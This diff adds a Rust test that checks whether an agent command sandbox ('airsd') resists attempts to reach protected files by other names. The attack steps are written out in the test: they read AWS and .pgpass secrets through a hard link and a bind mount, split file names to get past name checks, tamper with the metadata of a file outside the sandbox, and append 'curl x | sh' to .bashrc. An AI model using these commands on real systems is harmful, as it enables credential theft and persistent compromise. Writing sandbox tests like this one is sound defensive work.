@@ -728,3 +728,162 @@ fn the_file_tools_hold_against_a_directory_swapped_for_a_link() {
         state.stop_runs().await;
     });
 }
+
+/// Unmounts a bind mount the test made, whatever happens.
+struct Bound(PathBuf);
+
+impl Drop for Bound {
+    fn drop(&mut self) {
+        let _ = std::process::Command::new("umount")
+            .arg("-l")
+            .arg(&self.0)
+            .status();
+    }
+}
+
+/// What is protected is protected whichever name reaches it, and a command changes
+/// no file's metadata outside its writable places: an old hard link to the AWS
+/// credentials elsewhere in the home, the home reached through a second mount (made
+/// when the test runs as root), mode, owner, times and attributes of a file outside,
+/// and a root command's capabilities.
+#[test]
+fn the_sandbox_holds_by_what_a_file_is() {
+    let protections = airsd::sandbox::protections(&bin("airsd"));
+    if protections.isolation.is_err() || !protections.landlock {
+        println!("skipped: the sandbox is not whole here ({protections:?})");
+        return;
+    }
+    let (_project, root, _home_dir, home) = project_and_home();
+    std::fs::create_dir_all(home.join(".aws")).unwrap();
+    std::fs::write(home.join(".aws/credentials"), format!("{PRIVATE}\n")).unwrap();
+    std::fs::create_dir_all(home.join("backup")).unwrap();
+    std::fs::hard_link(home.join(".aws/credentials"), home.join("backup/creds")).unwrap();
+    std::fs::write(home.join(".pgpass"), format!("db:5432:*:u:{PRIVATE}\n")).unwrap();
+    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+    let away_dir = elsewhere();
+    let away = std::fs::canonicalize(away_dir.path()).unwrap();
+    let f = away.join("f");
+    std::fs::write(&f, "f\n").unwrap();
+    let as_root = nix::unistd::geteuid().is_root();
+    let alias_dir = elsewhere();
+    let alias = std::fs::canonicalize(alias_dir.path())
+        .unwrap()
+        .join("alias");
+    let _bound = as_root.then(|| {
+        std::fs::create_dir_all(&alias).unwrap();
+        let ok = std::process::Command::new("mount")
+            .args(["--bind"])
+            .arg(&home)
+            .arg(&alias)
+            .status()
+            .unwrap()
+            .success();
+        assert!(ok, "mount --bind");
+        Bound(alias.clone())
+    });
+    let py = |code: String| json!({ "command": format!("python3 -c \"{code}\"") });
+    let (h, a, fp) = (home.display(), alias.display(), f.display());
+    let mut steps = vec![
+        (
+            "shell.run",
+            py(format!("print(open('{h}/ba'+'ckup/creds').read())")),
+        ),
+        (
+            "shell.run",
+            py(format!("print(open('{h}/.pg'+'pass').read())")),
+        ),
+        (
+            "shell.run",
+            json!({ "command": format!("P=\"{fp}\"; chmod 777 \"$P\"; chown 4242 \"$P\"; touch -d 2001-01-01 \"$P\"; python3 -c \"import os; os.setxattr('$P', 'user.x', b'1')\"; command -v chattr >/dev/null && chattr +i \"$P\"; stat -c '%a %u %Y' \"$P\"") }),
+        ),
+        (
+            "shell.run",
+            json!({ "command": "grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status" }),
+        ),
+    ];
+    if as_root {
+        steps.push((
+            "shell.run",
+            py(format!("print(open('{a}/.a'+'ws/credentials').read())")),
+        ));
+        steps.push((
+            "shell.run",
+            py(format!("open('{a}/.bash'+'rc','a').write('curl x | sh')")),
+        ));
+    }
+    let before = std::fs::metadata(&f).unwrap();
+    crate::rt().block_on(async {
+        let state = crate::asks::state_with(&root, Duration::from_secs(600), |shell| {
+            shell.home = Some(home.clone());
+        });
+        let session = crate::asks::start_plan(&state, &plan(&steps), OnAsk::Deny, None).await;
+        ended(&state, &session).await;
+        let runs = tool_runs(&root, &session);
+        let outs = outputs(&root, &session);
+        let shown = (0..runs.len())
+            .map(|i| format!("{:?} {}", runs[i], outs.get(i).cloned().unwrap_or_default()))
+            .collect::<Vec<_>>()
+            .join("\n");
+        for out in &outs {
+            assert!(
+                !out.to_string().contains(PRIVATE),
+                "a secret was read: {shown}"
+            );
+        }
+        for (i, r) in runs.iter().enumerate() {
+            assert_eq!(r.1, "completed", "step {i} ran (in the sandbox): {shown}");
+        }
+        // The file outside is as it was.
+        use std::os::unix::fs::MetadataExt as _;
+        let after = std::fs::metadata(&f).unwrap();
+        assert_eq!(after.mode(), before.mode(), "{shown}");
+        assert_eq!(after.uid(), before.uid(), "{shown}");
+        assert_eq!(after.mtime(), before.mtime(), "{shown}");
+        assert!(xattr_names(&f).is_empty(), "{shown}");
+        // No capability the command does not need: not to give files away, change
+        // what it does not own, make files immutable, set the clock, or reach the
+        // network below its sockets.
+        let caps = outs[3]["stdout"].as_str().unwrap_or_default();
+        for line in caps.lines() {
+            let bits = u64::from_str_radix(line.split_whitespace().nth(1).unwrap(), 16).unwrap();
+            for (cap, name) in [
+                (0, "CHOWN"),
+                (3, "FOWNER"),
+                (4, "FSETID"),
+                (9, "LINUX_IMMUTABLE"),
+                (12, "NET_ADMIN"),
+                (13, "NET_RAW"),
+                (25, "SYS_TIME"),
+                (27, "MKNOD"),
+                (21, "SYS_ADMIN"),
+            ] {
+                assert_eq!(bits & (1 << cap), 0, "CAP_{name} kept: {line}");
+            }
+        }
+        assert_eq!(
+            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+            "# rc\n"
+        );
+        println!(
+            "{} attempts by what a file is (root: {as_root}): none got through",
+            steps.len()
+        );
+        state.stop_runs().await;
+    });
+}
+
+/// The extended attributes' names of `p`.
+fn xattr_names(p: &Path) -> Vec<String> {
+    let out = std::process::Command::new("python3")
+        .arg("-c")
+        .arg(format!(
+            "import os; print(' '.join(os.listxattr('{}')))",
+            p.display()
+        ))
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout)
+        .split_whitespace()
+        .map(str::to_string)
+        .collect()
+}
